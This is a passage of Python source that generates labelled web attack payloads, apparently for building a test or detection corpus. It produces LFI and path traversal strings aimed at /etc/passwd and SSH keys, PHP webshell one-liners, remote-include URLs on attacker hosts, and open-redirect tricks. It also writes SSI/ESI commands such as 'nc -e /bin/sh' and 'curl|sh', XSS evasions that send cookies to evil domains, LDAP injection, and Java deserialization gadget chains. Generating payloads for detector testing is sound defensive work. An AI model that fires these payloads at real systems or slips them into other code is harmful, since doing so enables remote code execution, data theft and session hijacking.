    php_codes = ["<?php system($_GET['c']); ?>", "<?php phpinfo(); ?>", "<?php echo shell_exec($_REQUEST['cmd']); ?>", "<?=`$_GET[0]`?>",
                 "<?php passthru('id'); ?>", "<?php eval($_POST['x']); ?>"]

    def make(rng):
        k = rng.random()
        if k < 0.45:
            unit_name = rng.choice(sorted(_TRAV_UNITS))
            unit = _TRAV_UNITS[unit_name]
            pool = rng.choice([_LFI_UNIX, _LFI_UNIX, _LFI_LOGS, _LFI_WIN, _LFI_APP])
            tgt = _lfi_fill(rng, rng.choice(pool))
            if pool is _LFI_WIN or "\\" in unit:
                tgt = tgt.replace("/", rng.choice(["\\", "\\", "/", "%5c"]))
            if "%2f" in unit and rng.random() < 0.6:
                tgt = tgt.replace("/", "%2f")
            elif "%252f" in unit and rng.random() < 0.6:
                tgt = tgt.replace("/", "%252f")
            s = unit * rng.randint(2, 12) + tgt
            r = rng.random()
            if r < 0.2:
                s = rng.choice(["/", "./", "images/", "/var/www/html/", "static/", "lang/", "templates/", "C:\\inetpub\\wwwroot\\", "file=", "/download/"]) + s
            r = rng.random()
            fam = "lfi-" + unit_name
            if r < 0.15:
                s += rng.choice(["%00", "%00.php", "%00.jpg", "%00.html", "\x00", "%2500", "%00.inc"])
                fam += "-nullbyte"
            elif r < 0.22:
                s += rng.choice(["/." * rng.randint(20, 200), "." * rng.randint(50, 300), "/./" * rng.randint(20, 100), "?", "#", "%23.png", ";.css", "::$DATA"])
                fam += "-truncation"
            if pool is _LFI_LOGS:
                fam = "lfi-logpoison"
            return Payload("path_traversal", s, "gen", f"path_traversal:{fam}", "file")
        if k < 0.72:
            tgt = _lfi_fill(rng, rng.choice(["index.php", "config.php", "../config.php", "/etc/passwd", "wp-config.php", "admin/login.php", "../../app/.env",
                                             "/var/www/html/config.php", "db.php", "settings.inc.php", "/proc/self/environ", "upload.php"]))
            filt = rng.choice(["convert.base64-encode", "read=convert.base64-encode", "string.rot13", "read=string.rot13", "convert.iconv.utf-8.utf-16le",
                               "convert.iconv.UTF8.UTF7", "zlib.deflate/convert.base64-encode", "string.toupper|string.rot13", "convert.quoted-printable-encode",
                               "convert.base64-decode", "convert.iconv.UCS-2LE.UCS-2BE", "string.strip_tags", "dechunk"])
            code = rng.choice(php_codes)
            b64 = base64.b64encode(code.encode()).decode()
            choices = [
                ("php-filter", f"php://filter/{filt}/resource={tgt}"), ("php-filter", f"php://filter/resource={tgt}"),
                ("php-filter", f"PHP://FILTER/{filt}/RESOURCE={tgt}"), ("php-filter", f"php://filter/{filt}|{rng.choice(['string.rot13', 'convert.base64-encode'])}/resource={tgt}"),
                ("php-filter", f"pHp://FilTer/{filt}/resource={tgt}"), ("php-input", rng.choice(["php://input", "php://input%00", "PHP://input", "php://stdin", "php://fd/0", "php://memory", "php://temp"])),
                ("data-wrapper", f"data://text/plain;base64,{b64}"), ("data-wrapper", f"data:text/plain;base64,{b64}"), ("data-wrapper", f"data://text/plain,{code}"),
                ("data-wrapper", f"data:;base64,{b64}"), ("data-wrapper", f"data://text/plain,{_pct(code)}"),
                ("expect", f"expect://{_fill_cmd(rng, rng.choice(['id', 'ls', 'whoami', 'cat /etc/passwd', 'uname -a']))}".replace(" ", rng.choice(["%20", "+", " ", "${IFS}"]))),
                ("zip", f"zip://{rng.choice(['uploads/', '/tmp/', '/var/www/uploads/', ''])}{_rs(rng, 6)}.{rng.choice(['zip', 'jpg', 'png'])}{rng.choice(['%23', '#'])}{_rs(rng, 4)}.php"),
                ("phar", f"phar://{rng.choice(['uploads/', '/tmp/', './'])}{_rs(rng, 6)}.{rng.choice(['phar', 'jpg', 'gif', 'png'])}/{_rs(rng, 4)}.php"),
                ("compress", f"compress.zlib://{rng.choice(['/etc/passwd', tgt])}"), ("compress", f"compress.bzip2://{tgt}"),
                ("glob", f"glob://{rng.choice(['/var/www/*', '/etc/*', '/*', '/home/*/.ssh/*'])}"),
                ("file-uri", f"file://{rng.choice(['', 'localhost'])}/{_lfi_fill(rng, rng.choice(_LFI_UNIX))}"), ("file-uri", "file:///" + rng.choice(['C:/', 'c:\\\\']) + rng.choice(_LFI_WIN)),
                ("file-uri", f"file:{rng.choice(['/', '//', '///'])}{_lfi_fill(rng, rng.choice(_LFI_UNIX))}"),
            ]
            fam, s = rng.choice(choices)
            if rng.random() < 0.12:
                s = _pct_some(rng, s, ":/=|;,")
                fam += "-urlenc"
            return Payload("path_traversal", s, "gen", f"path_traversal:{fam}", "file")
        if k < 0.86:
            # absolute paths, where the app prepends nothing
            r = rng.random()
            if r < 0.5:
                s = "/" + _lfi_fill(rng, rng.choice(_LFI_UNIX + _LFI_LOGS))
                s = s.replace("/", rng.choice(["/", "/", "//", "/./", "%2f"]))
            else:
                s = rng.choice(["C:\\", "c:\\", "C:/", "\\\\?\\C:\\", "\\\\.\\C:\\", "C:%5c", "file:///C:/"]) + rng.choice(_LFI_WIN).replace("/", rng.choice(["\\", "/"]))
            if rng.random() < 0.2:
                s += rng.choice(["%00", "%00.png", "?", "%23"])
            return Payload("path_traversal", s, "gen", "path_traversal:lfi-absolute", "file")
        # RFI: remote include of a text file, usually with the app's suffix cut off
        host = _attacker_host(rng)
        path = rng.choice(["shell.txt", "c99.txt", "r57.txt", "s.txt", "x.txt", "inc.txt", "php.txt", "b374k.txt", "cmd.gif", "wso.txt", "x.php", "test.txt"])
        scheme = rng.choice(["http://", "https://", "ftp://", "http://", "\\\\", "//", "hTtP://", "http:%2f%2f"])
        s = scheme + host + ("\\" if scheme == "\\\\" else "/") + rng.choice(["", "", "tmp/", "files/", "~u/"]) + path
        s += rng.choice(["?", "??", "%00", "%3f", "#", "?cmd=id", "?x=", "?&c=whoami", "%2500", ""])
        return Payload("path_traversal", s, "gen", "path_traversal:rfi", "file")
    return _collect(rng, n, make)


# ----------------------------------------------------------------------------- 7. open redirect

def _ideo_dot(rng: random.Random) -> str:
    return rng.choice(["%E3%80%82", "。", "%EF%BC%8E", "．", "%EF%BD%A1", "｡", "%2E", "%252E"])


def gen_open_redirect(rng: random.Random, n: int) -> list[Payload]:
    paths = ["", "", "", "/", "/login", "/x", "/index.php", "/phish", "/" + _rs(rng, 5), "/oauth/callback", "/%2e%2e", "/.."]

    def make(rng):
        evil = _evil_domain(rng) if rng.random() < 0.85 else _public_ip(rng)
        trusted = _trusted_domain(rng)
        path = rng.choice(paths)
        name, dotless = evil.rsplit(".", 1)
        k = rng.randrange(26)
        forms = [
            ("protocol-relative", f"//{evil}{path}"), ("triple-slash", f"///{evil}{path}"), ("quad-slash", f"////{evil}{path}"),
            ("slash-backslash", f"/\\{evil}{path}"), ("backslashes", f"\\\\{evil}{path}"), ("backslash-slash", f"\\/{evil}{path}"),
            ("scheme-noslash", f"{rng.choice(['https', 'http', 'HtTpS'])}:{evil}{path}"), ("scheme-oneslash", f"{rng.choice(['https', 'http'])}:/{evil}{path}"),
            ("scheme-backslash", f"{rng.choice(['https', 'http'])}:\\\\{evil}{path}"), ("scheme-mixed", f"https:/\\/\\{evil}{path}"),
            ("dotdot-encoded", f"http://{evil}%2f%2e%2e"), ("ideographic-dot", f"//{name}{_ideo_dot(rng)}{dotless}{path}"),
            ("userinfo", f"https://{trusted}@{evil}{path}"), ("userinfo-enc", f"https://{trusted}%40{evil}{path}"), ("fragment", f"https://{evil}#{trusted}"),
            ("fragment-enc", f"https://{evil}%23{trusted}"), ("suffix-domain", f"https://{trusted}.{evil}{path}"), ("query-trusted", f"https://{evil}?{trusted}"),
            ("path-trusted", f"https://{evil}/.{trusted}"), ("backslash-userinfo", f"https://{evil}\\@{trusted}"), ("nullbyte", f"//{evil}%00.{trusted}"),
            ("whitespace", rng.choice(['%09', '%0a', '%0d', ' ', '%20', '\t']) + f"//{evil}{path}"), ("encoded-slashes", f"%2f%2f{evil}{path}"),
            ("dblenc-slashes", f"%252f%252f{evil}{path}"), ("slash-encoded-backslash", f"/%5c{evil}{path}"), ("path-prefixed", f"/{rng.choice(['%2f', '%5c', '/', '%09/', '%0d/'])}{evil}{path}"),
        ]
        fam, s = forms[k]
        r = rng.random()
        if r < 0.06:
            fam, s = "javascript", rng.choice(["javascript:alert(document.domain)", "javascript://%0aalert(1)", f"javascript://{trusted}/%0Aalert(document.cookie)",
                                               "javascript:window.location='https://" + evil + "'", f"JaVaScRiPt:location='//{evil}'", "java%0d%0ascript%0d%0a:alert(0)",
                                               f"javascript://{trusted}%E2%80%A8alert(1)", "data:text/html;base64," + base64.b64encode(('<script>location="//' + evil + '"</script>').encode()).decode()])
        elif r < 0.12:
            num = sum(int(o) << (24 - 8 * i) for i, o in enumerate(_public_ip(rng).split(".")))
            fam, s = "numeric-ip", rng.choice([f"//{num}", f"http://{num}/", f"http://{hex(num)}", f"//0x{num:x}{path}", f"https:{num}"])
        elif r < 0.2:
            fam += "-urlenc"
            s = _pct(s, safe="") if rng.random() < 0.6 else _pct(_pct(s, safe=""), safe="")
        elif r < 0.26:
            fam += "-case"
            s = _rand_case(rng, s)
        if rng.random() < 0.1:
            s = rng.choice(["/redirect?url=", "/out?to=", "/logout?next=", "/login?return=", "/r?u="]) + s
            fam = "nested-" + fam
        return Payload("open_redirect", s, "gen", f"open_redirect:{fam}", REDIRECT_HINT)
    return _collect(rng, n, make)


# ----------------------------------------------------------------------------------- 8. SSI / ESI

_SSI_FILES = ['/etc/passwd', '..\\..\\boot.ini', 'C:\\Windows\\win.ini', '../config.php', '/proc/self/environ']


def gen_ssi_esi(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        c = _fill_cmd(rng, rng.choice(["id", "whoami", "ls -la", "cat /etc/passwd", "uname -a", "dir", "type C:\\boot.ini", "wget http://{h}/s -O /tmp/s",
                                        "nc {h} {p} -e /bin/sh", "ping -c {n} {h}", "curl {u}|sh", "sleep {n}", "env", "pwd"]))
        q = rng.choice(['"', "'", ""])
        sp = rng.choice([" ", "  ", "", " "])
        end = rng.choice(["-->", " -->", "--> "])
        k = rng.random()
        if k < 0.6:
            fam, body = rng.choice([
                ("ssi-exec", f"#exec{sp}cmd={q}{c}{q}"), ("ssi-exec", f"#exec cgi={q}/cgi-bin/{rng.choice(['test.cgi', 'printenv', 'php-cgi', _rs(rng) + '.pl'])}{q}"),
                ("ssi-include", f"#include virtual={q}{rng.choice(['/etc/passwd', '/etc/shadow', '../../../etc/passwd', '/web.config', '/.htpasswd', '/index.php'])}{q}"),
                ("ssi-include", f"#include file={q}{rng.choice(_SSI_FILES)}{q}"),
                ("ssi-echo", f"#echo var={q}{rng.choice(['DOCUMENT_ROOT', 'DATE_LOCAL', 'REMOTE_ADDR', 'SERVER_SOFTWARE', 'DOCUMENT_NAME', 'QUERY_STRING_UNESCAPED', 'HTTP_COOKIE', 'AUTH_TYPE'])}{q}"),
                ("ssi-printenv", "#printenv"), ("ssi-config", f"#config errmsg={q}{_rs(rng)}{q}"), ("ssi-config", f"#config timefmt={q}%A %B %d{q}"),
                ("ssi-set", f"#set var={q}{_rs(rng, 3)}{q} value={q}{c}{q}"), ("ssi-fsize", f"#fsize file={q}{rng.choice(['/etc/passwd', 'index.shtml'])}{q}"),
                ("ssi-flastmod", f"#flastmod virtual={q}/etc/passwd{q}"), ("ssi-if", f"#if expr={q}$REMOTE_ADDR = /.*/{q}"),
            ])
            s = f"<!--{body}{end}"
            if rng.random() < 0.15:
                s = s.replace("<!--", "<!-- ", 1)
        else:
            url = rng.choice([f"http://{_attacker_host(rng)}/{_rs(rng)}", f"https://{_evil_domain(rng)}/x.html", "/etc/passwd", "http://localhost/server-status",
                              f"http://{_evil_domain(rng)}/?c=$(HTTP_COOKIE)", f"http://{_evil_domain(rng)}/x.xsl"])
            fam, s = rng.choice([
                ("esi-include", f"<esi:include src={q or chr(34)}{url}{q or chr(34)}/>"), ("esi-include", f"<esi:include src=\"{url}\" alt=\"http://{_evil_domain(rng)}/\" onerror=\"continue\"/>"),
                ("esi-include", f"<esi:include src=\"{url}\" stylesheet=\"http://{_evil_domain(rng)}/x.xsl\"></esi:include>"),
                ("esi-include", f"<esi:include src=\"{url}\" dca=\"xslt\" stylesheet=\"//{_evil_domain(rng)}/e.xsl\"/>"),
                ("esi-vars", f"<esi:vars>$(HTTP_COOKIE)</esi:vars>"), ("esi-vars", f"<esi:vars>$(HTTP_COOKIE{{'{rng.choice(['PHPSESSID', 'session', 'JSESSIONID', 'sid'])}'}})</esi:vars>"),
                ("esi-vars", f"<esi:vars><img src=\"//{_evil_domain(rng)}/?$(HTTP_COOKIE)\"></esi:vars>"), ("esi-debug", "<esi:debug/>"),
                ("esi-comment", f"<!--esi <esi:include src=\"{url}\"/> -->"), ("esi-comment", "<!--esi $(HTTP_USER_AGENT) -->"),
                ("esi-assign", f"<esi:assign name=\"v{rng.randint(1, 9)}\" value=\"'{_rs(rng)}'\"/>"), ("esi-inline", f"<esi:inline name=\"/{_rs(rng)}\" fetchable=\"yes\"><script>alert(1)</script></esi:inline>"),
                ("esi-choose", f"<esi:choose><esi:when test=\"$(HTTP_HOST)=='{_rs(rng)}'\"><esi:include src=\"{url}\"/></esi:when></esi:choose>"),
                ("esi-split", f"x<esi:x/>y<esi:include src=\"{url}\"/>"), ("esi-remove", f"<esi:remove><esi:include src=\"{url}\"/></esi:remove>"),
                ("esi-try", f"<esi:try><esi:attempt><esi:include src=\"{url}\"/></esi:attempt></esi:try>"),
            ])
        pre = rng.choice(["", "", "", "\">", "'>", "x", "</textarea>", "name="])
        if rng.random() < 0.08:
            s = _pct_some(rng, s, "<>!\"' =#")
            fam += "-urlenc"
        s = pre + s
        return Payload("cmdi", s, "gen", f"cmdi:{fam}", _hint(rng, s, ["any", "any", "any", "header"]))
    return _collect(rng, n, make)


# ------------------------------------------------------------------------------- 9. XSS evasions

_X_TAGS = [("svg", " onload"), ("img src=x", " onerror"), ("body", " onload"), ("details open", " ontoggle"), ("input autofocus", " onfocus"),
           ("video src=x", " onerror"), ("audio src=x", " onerror"), ("iframe src=x", " onload"), ("marquee", " onstart"), ("select autofocus", " onfocus"),
           ("textarea autofocus", " onfocus"), ("a href=#", " onclick"), ("div", " onmouseover"), ("object data=x", " onerror"), ("style", " onload"),
           ("x", " onclick"), ("keygen autofocus", " onfocus"), ("math", " onclick"), ("form", " onsubmit"), ("button", " onclick"), ("embed src=x", " onerror"),
           ("image src=x", " onerror"), ("svg><animate attributeName=x dur=1s", " onbegin"), ("svg><set attributeName=x", " onbegin"), ("img src", " onerror"),
           ("body", " onpageshow"), ("xss", " onpointerover"), ("p", " oncontentvisibilityautostatechange"), ("input", " onblur"), ("source", " onerror")]
_X_JS = ["alert(1)", "alert(document.domain)", "prompt(1)", "confirm(document.cookie)", "alert`1`", "top['al'+'ert'](1)", "window['ale'+'rt'](1)",
         "self[`alert`](1)", "eval(atob('YWxlcnQoMSk='))", "[1].find(alert)", "(alert)(1)", "alert.call(null,1)", "location='//{d}/?'+document.cookie",
         "fetch('//{d}',{{method:'POST',body:document.cookie}})", "new Image().src='//{d}/c?'+document.cookie", "document.location='http://{d}/'+document.cookie",
         "import('//{d}/m.js')", "navigator.sendBeacon('//{d}',document.cookie)", "print()", "top[/al/.source+/ert/.source](1)", "eval(name)",
         "setTimeout`alert\\x281\\x29`", "Function`a${'alert(1)'}```", "alert(String.fromCharCode(88,83,83))", "co\\u006efirm(1)", "open('//{d}')"]


def _entity(rng: random.Random, s: str) -> str:
    k = rng.randrange(4)
    out = []
    for c in s:
        if rng.random() < 0.7:
            if k == 0:
                out.append(f"&#{ord(c)};")
            elif k == 1:
                out.append(f"&#x{ord(c):x};")
            elif k == 2:
                out.append(f"&#{'0' * rng.randint(1, 5)}{ord(c)}")
            else:
                out.append(f"&#X{ord(c):X}")
        else:
            out.append(c)
    return "".join(out)


def gen_xss_evasion(rng: random.Random, n: int) -> list[Payload]:
    brk = ["", "", "", "\">", "'>", "\"/>", "</title>", "</textarea>", "</script>", "-->", "\"><!--", "</style>", "'/>", "]]>", "</noscript>", "\" ", "' "]

    def make(rng):
        (tag, ev) = rng.choice(_X_TAGS)
        js = rng.choice(_X_JS).replace("{d}", _evil_domain(rng)).replace("{{", "{").replace("}}", "}")
        fams = []
        # separators between tag and attribute
        sep = rng.choice([" ", "/", "\t", "\n", "\r", "\x0c", "/x/", " /", "%09", "%0a", "%0d", "%0c", "/"])
        if sep != " ":
            fams.append("sep")
        head, _, attrs = tag.partition(" ")
        tag_s = head + ((" " + attrs) if attrs else "")
        evn = ev.strip()
        quote = rng.choice(["", "", '"', "'", "`"])
        jsv = js
        r = rng.random()
        if r < 0.22:
            jsv = _entity(rng, js)
            fams.append("entity")
        elif r < 0.3:
            jsv = js.replace("(", "&lpar;").replace(")", "&rpar;") if rng.random() < 0.5 else js.replace("(", "&#40;").replace(")", "&#41;")
            fams.append("named-entity")
        elif r < 0.36:
            jsv = "".join("\\u%04x" % ord(c) if c.isalpha() and rng.random() < 0.5 else c for c in js) if "`" not in js else js
            fams.append("unicode-escape")
        if rng.random() < 0.35:
            tag_s = _rand_case(rng, tag_s)
            evn = _rand_case(rng, evn)
            fams.append("case")
        if rng.random() < 0.1:
            i = rng.randint(1, len(evn) - 1)
            evn = evn[:i] + rng.choice(["%00", "\x00"]) + evn[i:]
            fams.append("nullbyte")
        if quote == "" and any(c in jsv for c in " "):
            quote = '"'
        s = f"<{tag_s}{sep}{evn}={quote}{jsv}{quote}>"
        if rng.random() < 0.3:
            s += rng.choice([f"</{head}>", "//", "<!--", "x", ">"])
        k = rng.random()
        if k < 0.1:
            s = rng.choice([f"<a href=\"{_rand_case(rng, 'javascript')}:{jsv}\">x</a>", f"<iframe src=\"{_entity(rng, 'javascript:')}{js}\">",
                            f"<a href=\"jav&#x0A;ascript:{js}\">x</a>", f"<form action=\"javas&Tab;cript:{js}\"><input type=submit>",
                            f"<object data=\"jaVasCript:{js}\">", f"<a href=java%00script:{js}>x</a>", f"<svg><a xlink:href=\"javascript:{js}\"><text x=9 y=9>x</text></a>",
                            f"<math href=\"javascript:{js}\">x</math>", f"<base href=\"jaVaScript:/a/-{js}///\">"])
            fams = ["js-uri"] + fams
        elif k < 0.18:
            s = rng.choice([f"<scr<script>ipt>{js}</scr</script>ipt>", f"<ScRiPt>{js}</sCrIpT>", f"<script/x>{js}</script>", f"<script\n>{js}</script\n>",
                            f"<script>/*{_rs(rng)}*/{js}</script>", f"<script src=data:,{js}></script>", f"<script src=//{_evil_domain(rng)}></script>",
                            f"<script>{js}<!--", f"<%00script>{js}</script>", f"<script>\\u0061lert(1)</script>"])
            fams = ["script"] + fams
        elif k < 0.24:
            s = _pct(s, safe="") if rng.random() < 0.7 else _pct(_pct(s, safe=""), safe="")
            fams.append("urlenc")
        elif k < 0.28:
            s = s.replace("<", rng.choice(["%3C", "&lt;", "\\u003c", "\\x3c", "%u003C", "\uff1c"])).replace(">", rng.choice(["%3E", "&gt;", "\\u003e", "\\x3e", ">"]))
            fams.append("bracket-enc")
        s = rng.choice(brk) + s
        return Payload("xss", s, "gen", "xss:evasion-" + ("-".join(fams) if fams else "plain"), "any")
    return _collect(rng, n, make)


# ---------------------------------------------------------------------------------------- all

# base counts at scale 1.0 (distinct texts per generator)

# ------------------------------------------------------------------------------ LDAP filter breaking
_LDAP_ATTRS = ["uid", "cn", "sn", "mail", "objectClass", "userPassword", "memberOf", "ou", "givenName",
               "sAMAccountName", "description", "telephoneNumber", "homeDirectory", "member", "dn"]
_LDAP_WORDS = ["admin", "jdoe", "guest", "x", "test", "root", "service", "probe", "alice", "nobody"]


def gen_ldap_breakout(rng: random.Random, n: int) -> list[Payload]:
    """LDAP filter injection that closes the application's filter and cuts the rest: closers
    (`)`, `))`, `*)`, `)(`) after an optional value, an optional injected clause, then NUL
    truncation (raw or %00) and the junk the server ignores after it; and wildcard/always-true
    clauses (`(|(x=*))`, `(&)`, `(objectClass=*)`)."""
    out, seen = [], set()
    fams = ["closer-nul", "closer-clause", "always-true", "wildcard"]
    tries = 0
    while len(out) < n and tries < n * 20:
        tries += 1
        fam = fams[len(out) % len(fams)]
        a, b = rng.choice(_LDAP_ATTRS), rng.choice(_LDAP_ATTRS)
        word = rng.choice(_LDAP_WORDS + [""])
        nul = rng.choice(["\x00", "%00", "\x00", "%2500"])
        junk = rng.choice(["", rng.choice(_LDAP_WORDS), "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 12)))])
        if fam == "closer-nul":
            s = word + rng.choice([")", "))", "*)", "*))", ")))", ")(", "*)("]) + rng.choice(["", f"{a}=*)", f"&)", f"|({a}=*)"]) + nul + junk
        elif fam == "closer-clause":
            s = word + rng.choice([")(", "*)(", "))(", ")(|(", ")(&("]) + f"{a}=" + rng.choice(["*", "*)", word or "*", "*" + (word or "a") + "*"]) + rng.choice(["", ")", "))", ")(" + b + "=*"])
        elif fam == "always-true":
            s = rng.choice(["", word]) + rng.choice([f")(|({a}=*))", ")(&)", f")(objectClass=*))", f"*)(|({a}=*)({b}=*))", f"))(|({a}=*"]) + rng.choice(["", nul + junk])
        else:
            s = rng.choice(["(*", "*(", "(*" + (word or "a") + "*", "**" + (word or "a") + "**("]) + rng.choice(["", ")", "))"]) + rng.choice(["", nul + junk])
        s = s.replace("\\x00", "\x00")
        if s in seen:
            continue
        seen.add(s)
        out.append(Payload("ldap", s, "gen", f"ldap:{fam}"))
    return out

# ------------------------------------------------- 15. Java object graphs in XML and text (deser)

_JAVA_EXEC_CLASSES = ["java.lang.ProcessBuilder", "java.lang.Runtime", "javax.script.ScriptEngineManager", "java.net.URLClassLoader",
                      "javax.naming.InitialContext", "com.sun.rowset.JdbcRowSetImpl", "java.beans.EventHandler"]
_CC_TRANSFORMERS = ["org.apache.commons.collections.functors.InvokerTransformer", "org.apache.commons.collections.functors.ChainedTransformer",
                    "org.apache.commons.collections.functors.ConstantTransformer", "org.apache.commons.collections.functors.InstantiateTransformer",
                    "org.apache.commons.collections4.functors.InvokerTransformer", "org.apache.commons.collections.map.LazyMap",
                    "org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.beanutils.BeanComparator",
                    "org.codehaus.groovy.runtime.MethodClosure", "org.springframework.beans.factory.ObjectFactory",
                    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "sun.reflect.annotation.AnnotationInvocationHandler",
                    "java.util.PriorityQueue", "javax.management.BadAttributeValueExpException"]


def _xml_args(rng: random.Random, c: str) -> list[str]:
    return rng.choice([["/bin/sh", "-c", c], ["bash", "-c", c], ["cmd.exe", "/c", c], [c]])


def gen_java_objects(rng: random.Random, n: int) -> list[Payload]:
    """Java object graphs that a server deserialises and so runs: java.beans.XMLDecoder documents,
    XStream trees (dynamic proxies over EventHandler, sorted sets), Commons Collections and
    other gadget chains written as JSON or XML, and Java serialisation streams and exploit code
    in the encodings clients carry them in (base64, URL-safe base64, hex)."""
    def make(rng):
        c = _jcmd(rng)
        args = _xml_args(rng, c)
        r = rng.random()
        hint = "xml_body"
        if r < 0.25:
            cls = rng.choice(["java.lang.ProcessBuilder", "java.lang.Runtime", "java.lang.ProcessBuilder"])
            items = "".join(f'<void index="{i}"><string>{a}</string></void>' for i, a in enumerate(args))
            arr = f'<array class="java.lang.String" length="{len(args)}">{items}</array>'
            body = (f'<object class="{cls}">{arr}<void method="start"/></object>' if cls.endswith("Builder")
                    else f'<object class="java.lang.Runtime" method="getRuntime"><void method="exec">{arr}</void></object>')
            if rng.random() < 0.3:
                body = (f'<object class="java.net.URLClassLoader"><array class="java.net.URL" length="1"><void index="0"><object class="java.net.URL">'
                        f'<string>http://{_attacker_host(rng)}/x.jar</string></object></void></array><void method="loadClass"><string>Exploit</string>'
                        '<void method="newInstance"/></void></object>')
            head = rng.choice(['<?xml version="1.0" encoding="UTF-8"?>', "", '<?xml version="1.0"?>'])
            s = f'<java version="{rng.choice(["1.8.0_151", "1.7.0_21", "11", "1.8"])}" class="java.beans.XMLDecoder">{body}</java>'
            if rng.random() >= 0.3:
                s = head + s
            else:
                s = rng.choice(["<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">%s</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>",
                                "<request>%s</request>"]) % s
            fam = "xmldecoder"
        elif r < 0.45:
            cmd = "".join(f"<string>{a}</string>" for a in args)
            s = rng.choice([
                f'<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>{cmd}</command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
                f'<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder"><command>{cmd}</command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method><name>foo</name></filter></iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><string>x</string></entry></map>',
                f'<contact class="dynamic-proxy"><interface>org.company.model.Contact</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>{cmd}</command></target><action>start</action></handler></contact>',
                f'<java.util.PriorityQueue serialization="custom"><unserializable-parents/><java.util.PriorityQueue><default><size>2</size><comparator class="org.apache.commons.beanutils.BeanComparator"><property>outputProperties</property></comparator></default><int>3</int><com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl/></java.util.PriorityQueue></java.util.PriorityQueue>',
                f'<linked-hash-set><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="java.io.SequenceInputStream"/></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></linked-hash-set>',
            ])
            fam = "xstream"
        elif r < 0.65:
            chain = rng.sample(_CC_TRANSFORMERS, rng.randint(2, 4))
            if rng.random() < 0.5:
                inner = ",".join(f'{{"@class":"{k}","iMethodName":"exec","iArgs":["{c}"]}}' if "Invoker" in k else f'{{"@class":"{k}"}}' for k in chain)
                s = f'{{"{rng.choice(["transformers", "data", "payload", "object"])}":[{inner}]}}'
                hint = "any"
            else:
                s = "".join(f"<{k}><iMethodName>{rng.choice(['exec', 'getMethod', 'invoke'])}</iMethodName></{k}>" for k in chain)
                root = rng.choice(["map", "object", "payload"])
                s = f"<{root}>{s}<string>{c}</string></{root}>"
            fam = "gadget-chain"
        elif r < 0.85:
            code = rng.choice([f"java.lang.Runtime.getRuntime().exec(\"{c}\")", f"new java.lang.ProcessBuilder(\"{c}\").start()",
                               f"{rng.choice(_JAVA_EXEC_CLASSES)}", f"{rng.choice(_CC_TRANSFORMERS)}", "java.lang.Runtime", "java.lang.ProcessBuilder",
                               f"Runtime.getRuntime().exec(\"{c}\")"]).encode()
            # Always a serialisation stream (its magic survives every encoding as `rO0AB`/`aced0005`):
            # base64 of plain text from a random offset has no mark the filter could read undecoded.
            raw = b"\xac\xed\x00\x05" + rng.choice([b"sr\x00", b"t\x00", b"ur\x00"]) + bytes([len(code) % 256]) + code
            s = rng.choice([base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode().rstrip("="), raw.hex()])
            fam = "encoded"
            hint = rng.choice(["any", "cookie", "header"])
        else:
            q = rng.choice(['"', "'"])
            s = rng.choice([f"java.lang.Runtime.getRuntime().exec({q}{c}{q})", f"new java.lang.ProcessBuilder({q}{c}{q}).start()",
                            f"java.lang.Runtime.getRuntime().exec(new String[]{{{q}/bin/sh{q},{q}-c{q},{q}{c}{q}}})",
                            f"Runtime.getRuntime().exec({q}{c}{q}).waitFor()", f"((java.lang.Runtime)java.lang.Runtime.getRuntime()).exec({q}{c}{q})",
                            f"java.lang.Class.forName({q}java.lang.Runtime{q})", f"Class.forName({q}java.lang.ProcessBuilder{q}).newInstance()",
                            f"new java.io.FileInputStream({q}/etc/passwd{q})", f"new java.io.FileOutputStream({q}/var/www/shell.jsp{q}).write(x)",
                            f"java.lang.System.setSecurityManager(null)", f"new java.lang.ProcessBuilder(new String[]{{{q}{c}{q}}}).inheritIO().start()"])
            fam = "java-code"
            hint = "any"
            return Payload("ssti", s, "gen", f"ssti:{fam}", hint)
        return Payload("deserialization", s, "gen", f"deser-java-{fam}", hint)
    return _collect(rng, n, make)


# ------------------------------------------------- 15b. polymorphic type ids and code carried in base64

# Classes that polymorphic JSON/YAML binders (Jackson default typing, Fastjson autoType, Json.NET
# TypeNameHandling, SnakeYAML tags) have been made to instantiate, with the properties that turn
# each into a JNDI lookup, a remote class load or a command. From the public advisories'
# descriptions of the gadget classes; the values are composed here.
_TYPE_GADGETS = [
    ("com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "{jndi}", "autoCommit": True}),
    ("org.apache.xbean.propertyeditor.JndiConverter", {"asText": "{jndi}"}),
    ("ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "{jndi}"}),
    ("com.zaxxer.hikari.HikariConfig", {"metricRegistry": "{jndi}"}),
    ("com.zaxxer.hikari.HikariDataSource", {"healthCheckRegistry": "{jndi}"}),
    ("org.apache.commons.configuration.JNDIConfiguration", {"prefix": "{jndi}"}),
